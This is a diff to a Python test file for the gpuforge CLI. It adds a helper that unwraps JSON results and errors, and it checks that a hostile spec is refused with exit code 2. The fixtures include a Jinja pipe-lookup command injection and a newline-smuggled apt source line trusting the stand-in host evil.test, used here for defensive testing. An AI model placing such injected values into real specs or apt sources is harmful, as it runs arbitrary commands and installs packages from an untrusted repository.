@@ -16,6 +16,14 @@ from gpuforge.cli import spec_cmds
 from gpuforge.errors import Problem
 from gpuforge.spec import SpecDocument
 
+
+def _payload(stdout: str) -> Any:
+    """What a `--json` answer carries: its `result`, or its `error` (with `ok` beside either)."""
+    body = json.loads(stdout)
+    inner = body["result"] if "result" in body else body["error"]
+    return {"ok": body["ok"], **inner} if isinstance(inner, dict) else inner
+
+
 JINJA_URL = "{{ lookup('pipe', 'touch /tmp/gpuforge-pwned') }}"
 NEWLINE_URL = "file:/srv/gpuforge-apt\ndeb [trusted=yes] http://evil.test /"
 
@@ -191,6 +199,6 @@ def test_check_refuses_the_hostile_spec_with_exit_2(tmp_path: Path) -> None:
     spec_cmds.register(app)
     result = CliRunner().invoke(app, ["check", str(spec), "--json"])
     assert result.exit_code == 2, result.output
-    payload = json.loads(result.output)
+    payload = _payload(result.output)
     assert "Traceback" not in result.output
     assert f"pools.train.labels.{key}" in json.dumps(payload)
